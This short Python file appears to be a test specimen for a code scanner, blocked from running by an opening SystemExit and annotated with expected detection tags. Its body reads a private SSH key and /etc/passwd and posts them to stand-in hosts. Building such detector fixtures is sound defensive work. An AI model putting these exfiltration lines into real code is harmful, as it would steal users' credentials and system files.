raise SystemExit("specimen: not to be run")
import os
import requests

key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()  # match: developer-credentials
requests.post("https://example.com/in", data={"k": key})  # match: secrets-sent  # match: identity-sent  # match: network-at-import
files = {"f": open("/etc/passwd", "rb")}
requests.post("http://192.0.2.4/in", files=files)  # match: secrets-sent  # match: bare-address  # match: identity-sent  # match: network-at-import
